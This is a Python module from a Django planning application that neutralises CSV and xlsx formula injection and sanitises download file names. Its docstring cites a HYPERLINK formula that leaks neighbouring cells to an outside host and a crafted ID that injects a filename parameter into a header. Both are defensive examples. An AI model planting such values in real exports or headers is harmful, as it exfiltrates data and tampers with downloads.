"""Spreadsheets and downloads that cannot attack whoever opens them.

Names typed by users (projects, products, programs...) end up in every export. A spreadsheet
program runs a cell that starts with `=` (and, in a CSV, also `+`, `-`, `@`, tab or CR) as a
formula: `=HYPERLINK("http://…?d="&C5,"clic")` leaks the neighbouring cells when clicked.

- xlsx: every text is written as a text cell (never a formula), with its exact characters, so the
  planning workbook re-imports unchanged. openpyxl turns a string starting with `=` into a
  formula unless the cell's data type is forced; XlsxWriter's `write()` does the same unless the
  workbook is opened with `XLSXWRITER_OPTIONS`. Every xlsx goes through `isvimed_planning.xlsx`,
  which uses these helpers.
- CSV: a text cell starting with a dangerous character gets a leading `'` (OWASP, "CSV
  Injection"); the csv module quotes any cell holding a separator, quote or line break.
  Numbers stay numbers, negative ones included.
- Downloads: `Content-Disposition` is built by Django from a sanitised name, so a BPIN such as
  `1"; filename="x.html` cannot add a parameter or a header.
"""
from __future__ import annotations

import csv
import re
import unicodedata
from decimal import Decimal
from typing import cast

from django.utils.http import content_disposition_header
from openpyxl.cell.cell import ERROR_CODES as _OPENPYXL_ERROR_CODES

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# --- CSV ---------------------------------------------------------------------------------------

CSV_DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# A plain decimal literal: every spreadsheet reads it as a number, never as a formula.
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")


def csv_cell(value):
    """The value to give the csv module for one cell: numbers unchanged, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, (int, float, Decimal)):  # bool is an int: written as True/False
        return value
    text = str(value)
    if text.startswith(CSV_DANGEROUS_PREFIXES) and not _PLAIN_NUMBER.match(text):
        return "'" + text
    return text


def csv_row(values) -> list:
    return [csv_cell(v) for v in values]


class SafeCSVWriter:
    """`csv.writer` whose every cell goes through `csv_cell`."""

    def __init__(self, fileobj, **fmtparams):
        self._writer = csv.writer(fileobj, **fmtparams)

    def writerow(self, values):
        return self._writer.writerow(csv_row(values))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(fileobj, **fmtparams) -> SafeCSVWriter:
    return SafeCSVWriter(fileobj, **fmtparams)


# --- The Spanish-Excel dialect ------------------------------------------------------------------
# Excel in Spanish (es-CO, es-ES) opens a CSV by double click only when it is UTF-8 *with* a BOM,
# separated by ";" (the list separator when "," is the decimal mark) and with decimal commas:
# "1234,5" is then a number, "1234.5" a text. Every public CSV is offered in this dialect too
# (`?formato=excel`); the standard one (UTF-8, ",", decimal point) stays the default, for programs.

EXCEL_PARAMETER = "formato"
EXCEL_VALUE = "excel"
EXCEL_BOM = "\ufeff"
EXCEL_DELIMITER = ";"


def wants_excel(request) -> bool:
    """Whether the request asks for the Spanish-Excel dialect (`?formato=excel`)."""
    return request.GET.get(EXCEL_PARAMETER) == EXCEL_VALUE


def excel_cell(value):
    """A cell in the Spanish dialect: numbers with a decimal comma and no thousands separator
    (Excel reads "1234567,5" as a number; a "." would be read as a thousands mark or a text);
    text neutralised as in `csv_cell`."""
    if isinstance(value, bool) or value is None or not isinstance(value, (int, float, Decimal)):
        return csv_cell(value)
    text = format(value, "f") if isinstance(value, Decimal) else str(value)
    return text.replace(".", ",")


class ExcelCSVWriter(SafeCSVWriter):
    """`SafeCSVWriter` in the Spanish-Excel dialect: ";" separated, decimal commas."""

    def writerow(self, values):
        return self._writer.writerow([excel_cell(v) for v in values])


def csv_download(request, name: str, header, rows, *, excel: bool | None = None):
    """A CSV download in the dialect the request asks for: the standard one (UTF-8, ",", decimal
    point) or the Spanish-Excel one (BOM, ";", decimal comma) with `?formato=excel`."""
    from django.http import HttpResponse

    excel = wants_excel(request) if excel is None else excel
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    if excel:
        response.write(EXCEL_BOM)
        writer: SafeCSVWriter = ExcelCSVWriter(response, delimiter=EXCEL_DELIMITER)
        stem, dot, ext = name.rpartition(".")
        name = f"{stem}-excel.{ext}" if dot else f"{name}-excel"
    else:
        writer = csv_writer(response)
    set_download_name(response, name)
    writer.writerow(header)
    writer.writerows(rows)
    return response


# --- xlsx --------------------------------------------------------------------------------------

# XlsxWriter: `write()` must never guess a formula, a link or a number from a string.
XLSXWRITER_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def _as_text(cell):
    # openpyxl guesses 'f' (formula) for "=…" and 'e' (error) for "#N/A" and the like.
    if isinstance(cell.value, str):
        cell.data_type = "s"
    return cell


def write_only_cell(ws, value):
    """A cell for a write-only openpyxl sheet; text always a text cell."""
    from openpyxl.cell import WriteOnlyCell

    return _as_text(WriteOnlyCell(ws, value=value))


def _read_as_other_than_text(value) -> bool:
    # openpyxl's own guess for a string: a formula when it starts with "=", an error such as "#N/A".
    return isinstance(value, str) and (value.startswith("=") or value in _OPENPYXL_ERROR_CODES)


def write_only_value(ws, value):
    """`value` for `ws.append()` of a write-only sheet: a text cell when openpyxl would not write
    it as text, else unchanged (wrapping every string costs half as much again as the export)."""
    return write_only_cell(ws, value) if _read_as_other_than_text(value) else value


# --- Download names ----------------------------------------------------------------------------

MAX_NAME_LENGTH = 150
# Characters never kept in a download name: those that end or split a header parameter or a path,
# and those Windows refuses in a file name.
_NAME_UNSAFE = re.compile(r'["\\/;:*?<>|]+')
# Unicode categories dropped: controls, format (e.g. right-to-left override), line/paragraph separators.
_DROPPED_CATEGORIES = {"Cc", "Cf", "Zl", "Zp", "Cs", "Co", "Cn"}


def safe_filename(name, default: str = "descarga") -> str:
    """A download name that is only a name: no quotes, separators, control characters or path."""
    text = unicodedata.normalize("NFC", str(name or ""))
    text = "".join(" " if unicodedata.category(ch) in _DROPPED_CATEGORIES else ch for ch in text)
    text = _NAME_UNSAFE.sub("-", text)
    text = " ".join(text.split()).strip(" .-")
    if len(text) > MAX_NAME_LENGTH:
        stem, dot, ext = text.rpartition(".")
        if dot and 0 < len(ext) <= 5:
            text = stem[: MAX_NAME_LENGTH - len(ext) - 1].rstrip(" .-") + "." + ext
        else:
            text = text[:MAX_NAME_LENGTH].rstrip(" .-")
    return text or default


def content_disposition(name, *, attachment: bool = True) -> str:
    """The `Content-Disposition` value for a download called `name` (sanitised first)."""
    # Never None: the sanitised name is never empty (safe_filename falls back to a default).
    return cast(str, content_disposition_header(attachment, safe_filename(name)))


def set_download_name(response, name, *, attachment: bool = True):
    response["Content-Disposition"] = content_disposition(name, attachment=attachment)
    return response


# --- The admin's exports (django-import-export) --------------------------------------------------
# Its own `IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT` only drops a leading "=" (changing the text and
# missing "+", "-", "@"), so settings.EXPORT_FORMATS lists these instead. HTML is left out: a
# spreadsheet program opening it runs formulas too.
from import_export.formats import base_formats  # noqa: E402


def _neutralised_dataset(dataset):
    import tablib

    out = tablib.Dataset(headers=csv_row(dataset.headers or []) or None, title=dataset.title)
    for row in dataset:
        out.append(csv_row(row))
    return out


class SafeCSV(base_formats.CSV):
    def export_data(self, dataset, **kwargs):
        return super().export_data(_neutralised_dataset(dataset), **kwargs)


class SafeTSV(base_formats.TSV):
    def export_data(self, dataset, **kwargs):
        return super().export_data(_neutralised_dataset(dataset), **kwargs)


class SafeXLSX(base_formats.XLSX):
    def export_data(self, dataset, **kwargs):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        from isvimed_planning.xlsx import Sheet, write_xlsx

        def clean(value):
            # Control characters are replaced as before, when openpyxl refused them.
            return ILLEGAL_CHARACTERS_RE.sub("-", value) if isinstance(value, str) else value

        rows = ([dataset.headers] if dataset.headers else []) + [list(r) for r in dataset]
        sheet = Sheet(name=(dataset.title or "Hoja")[:31], rows=([clean(v) for v in row] for row in rows), freeze=(1, 0))
        return write_xlsx([sheet])


ADMIN_EXPORT_FORMATS = [SafeCSV, SafeXLSX, SafeTSV, base_formats.JSON]
